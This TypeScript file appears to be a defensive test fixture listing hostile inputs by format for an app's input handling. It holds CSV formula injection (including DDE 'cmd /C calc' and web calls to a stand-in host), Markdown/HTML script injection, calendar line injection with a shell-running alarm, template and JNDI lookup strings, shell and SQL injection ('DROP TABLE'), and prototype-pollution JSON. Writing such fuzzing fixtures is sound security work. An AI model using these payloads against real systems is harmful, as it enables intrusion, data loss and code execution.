/** Texts that mean something in a format that we write or read: tables, Markdown, calendar files, JSON, and languages of programs. */
import { acts, crossed, nowhere, ofKind, type Payload } from './payload';

const formulas: Readonly<Record<string, string>> = {
  sum: '1+1',
  link: `HYPERLINK("https://${nowhere}/?"&A1,"Open")`,
  'web service': `WEBSERVICE("https://${nowhere}/")`,
  image: `IMAGE("https://${nowhere}/a.png")`,
  import: `IMPORTXML("https://${nowhere}/","//a")`,
  program: "cmd|' /C calc'!A0",
};

const starts: Readonly<Record<string, (formula: string) => string>> = {
  'equals sign': (formula) => `=${formula}`,
  'plus sign': (formula) => `+${formula}`,
  'at sign': (formula) => `@${formula}`,
  'behind a tab': (formula) => `\t=${formula}`,
  'behind a line break': (formula) => `\r\n=${formula}`,
  'behind a space that is none': (formula) => `\u00a0\u200b=${formula}`,
  'wide sign': (formula) => `＝${formula}`,
  'out of a cell': (formula) => `x","=${formula}`,
  'on a line of its own': (formula) => `x"\r\n"=${formula}`,
};

const tables: Readonly<Record<string, string>> = {
  'minus sign': '-2+3',
  'long minus sign': '−2+3',
  'other program': 'DDE("cmd";"/C calc";"x")',
  'number that changes': '00123E5',
  'date that changes': 'MAR1',
  'one quote': '"',
  'three quotes': '"""',
  'quote and line break': '"\r\n"',
  'semicolons and tabs': 'a;b\tc|d',
  'a line of its own that says how': 'sep=;',
  'apostrophe before': "'=1+1",
};

const markdown: Readonly<Record<string, string>> = {
  link: `[Open](https://${nowhere}/)`,
  'link with a title': `[Open](https://${nowhere}/ "x")`,
  'link by reference': `[Open][1]\n\n[1]: https://${nowhere}/`,
  'reference alone': `[Rota]: https://${nowhere}/`,
  image: `![x](https://${nowhere}/a.png)`,
  'image in a link': `[![x](https://${nowhere}/a.png)](https://${nowhere}/)`,
  'address in brackets': `<https://${nowhere}/>`,
  'bare address': `https://${nowhere}/rota`,
  'bare name of a host': `www.${nowhere}/rota`,
  'bare mail': `a@${nowhere}`,
  'mail in brackets': `<a@${nowhere}>`,
  'mark-up': `<b onclick="${acts}">x</b>`,
  comment: '<!-- gone -->',
  'block of mark-up': `<div>\n<img src=x onerror=${acts}>\n</div>`,
  heading: '# Rota',
  'heading below': 'Rota\n====',
  'heading below, the smaller': 'Rota\n----',
  list: '- one\n- two',
  'list of stars': '* one',
  'list of plus signs': '+ one',
  'list of numbers': '1. one\n2) two',
  task: '- [x] done',
  quote: '> said',
  line: '***',
  'other lines': '---\n___\n* * *',
  'code by a fence': '```js\nx\n```',
  'code by tildes': '~~~\nx\n~~~',
  'code by spaces': '    x = 1',
  'code within': '`x` ``y` ``',
  emphasis: '*one* **two** ***three*** _four_ __five__',
  'struck out': '~~gone~~',
  table: '| a | b |\n|---|---|\n| 1 | 2 |',
  footnote: 'x[^1]\n\n[^1]: gone',
  escape: '\\*one\\* \\',
  'break at its end': 'one\\\ntwo  \nthree',
  mention: '@everyone #1 !2 $x$ :tada:',
  formula: '$$\\int x$$',
  'facts on top': '---\ntitle: x\n---',
  'brackets without an end': '[[[[[[[[[[',
  'link over lines': `[Open\nit](https://${nowhere}/\n)`,
};

/** Lines that would end what we write, or begin something of their own. */
const lines: Readonly<Record<string, string>> = {
  'end of the event': 'END:VEVENT',
  'another event': 'END:VEVENT\r\nBEGIN:VEVENT\r\nUID:other\r\nSUMMARY:Other\r\nDTSTART:20261124T100000Z',
  'end of the calendar': 'END:VCALENDAR',
  'an alarm that runs': 'BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM',
  attachment: `ATTACH:https://${nowhere}/a.exe`,
  guest: `ATTENDEE:mailto:a@${nowhere}`,
  'repeated for ever': 'RRULE:FREQ=SECONDLY',
  'called off': 'METHOD:CANCEL\r\nSTATUS:CANCELLED',
};

const breaks: Readonly<Record<string, (line: string) => string>> = {
  'after both signs': (line) => `Rota\r\n${line}`,
  'after a line feed': (line) => `Rota\n${line}`,
  'after a carriage return': (line) => `Rota\r${line}`,
  folded: (line) => `Rota\r\n ${line.slice(0, 4)}\r\n\t${line.slice(4)}`,
  'as written in a file': (line) => `Rota\\n${line.replaceAll('\r\n', '\\n')}`,
  'after other breaks': (line) => `Rota\u0085${line}\u2028${line}\u000b${line}`,
};

const calendar: Readonly<Record<string, string>> = {
  'zone by a key': 'DTSTART;TZID=__proto__:20261124T100000',
  'zone of the constructor': 'DTSTART;TZID=constructor:20261124T100000',
  'name with a quote': 'ATTENDEE;CN="Ann";X="y:mailto:a@never.example',
  'name with carets': 'ATTENDEE;CN="Ann^n^^^\'":mailto:a@never.example',
  separators: 'a;b,c\\;d\\,e\\\\f:g',
  'a parameter': ';VALUE=URI:https://never.example/',
  'a day that is none': 'DTSTART:20269999T999999Z',
  'a rule that is none': 'RRULE:FREQ=;BYDAY=9XX;COUNT=-1',
  'other format': 'DTSTART;VALUE=PERIOD:20261124T100000Z/PT1H',
  'a long fold': `DESCRIPTION:${'x\r\n '.repeat(200)}`,
  'a block of ours': 'Before we meet\nWhat we are agreeing: x\n—',
  'end of a block of ours': '—\nBefore we meet\n—',
};

const languages: Readonly<Record<string, string>> = {
  'braces twice': '{{constructor.constructor("window.acted=1")()}}',
  'braces with a sign': `\${${acts}}`,
  'hash braces': `#{${acts}}`,
  'angle and percent': `<%= ${acts} %>`,
  'brackets twice': `[[7*7]]{{7*7}}\${7*7}`,
  'percent and letters': '%s%s%s%n%n%x %1$*1$d',
  'percent of the console': '%c%o%O%d%i%f',
  'dollars of a replacement': "$& $` $' $1 $$ $<name>",
  'braces of a message': '{0} {count, plural, one {#} other {#}}',
  'shell words': '$(touch x) `touch x` ; touch x | x && x',
  'shell words of Windows': '%COMSPEC% & calc ^& $env:PATH',
  'lookup of a name': `\${jndi:ldap://never.example/a}`,
  'end of a script': `</script><script>${acts}//`,
  'end of a string': `';${acts}//";${acts}//\`;${acts}//`,
  'end of a function': `});${acts};(function(){`,
  'line break in a string': `\u2028${acts}\u2029`,
  comment: `*/${acts}/*`,
  import: `import("https://${nowhere}/a.js")`,
  regular: '(a+)+$ [^] (?<x>.)\\k<x> /.*/',
  'style sheet': `}body{background:url(https://${nowhere}/a.png)}`,
  selector: '"]*,[onclick]{}',
  path: "//*[name()='script'] | /etc",
  glob: '**/*{a,b}[!c]?',
};

const queries: Readonly<Record<string, string>> = {
  'or true': "' OR '1'='1",
  comment: "admin'-- ",
  'two commands': "'; DROP TABLE preparations; --",
  union: "' UNION SELECT text FROM answers--",
  like: "%' OR text LIKE '%_",
  'signs of a document store': '{"$ne": null, "$where": "window.acted=1"}',
  directory: '*)(uid=*))(|(uid=*',
  'words of a search': 'title:* -x +y "z" ~2 ^9 (a OR b) AND NOT [1 TO *]',
  header: 'x\r\nSet-Cookie: a=b\r\n\r\n<html>',
  logged: 'x\n[ERROR] all is lost',
};

const json: Readonly<Record<string, string>> = {
  'key of all': '{"__proto__": {"acted": 1}}',
  'key of the constructor': '{"constructor": {"prototype": {"acted": 1}}}',
  'key in a list': '[{"__proto__": {"acted": 1}, "title": "x"}]',
  'copy with a key of all':
    '{"product":"before-we-meet","version":2,"records":{"__proto__":[{"acted":1}]},"items":{"__proto__":{"acted":1}}}',
  'copy of nothing': '{"product":"before-we-meet","version":2,"records":null,"items":[]}',
  'copy of a later time': '{"product":"before-we-meet","version":1e309,"records":{},"items":{}}',
  'copy of the first version': '{"product":"before-we-meet","version":1,"preparations":[null,1,{}],"promises":[[]]}',
  'resources that are none': '{"resources": {"length": 1000, "0": "x"}}',
  'same key twice': '{"title":"a","title":"b"}',
  'not finished': '{"resources": [',
  'comments and commas': '[{"title": "x", /* y */ },]',
  'numbers that are too large': '[1e309, -1e309, 9007199254740993, 1e-400, -0]',
  'not numbers': '[NaN, Infinity, 0x10, 012]',
  'escapes that are halves': '["\\ud800", "\\udc00\\ud800", "\\u0000"]',
  'mark in front': '\ufeff{"resources": []}',
};

export const formats: readonly Payload[] = [
  ...crossed('formula', formulas, starts),
  ...ofKind('table', tables),
  ...ofKind('Markdown', markdown),
  ...crossed('calendar line', lines, breaks),
  ...ofKind('calendar', calendar),
  ...ofKind('language', languages),
  ...ofKind('query', queries),
  ...ofKind('JSON', json),
];
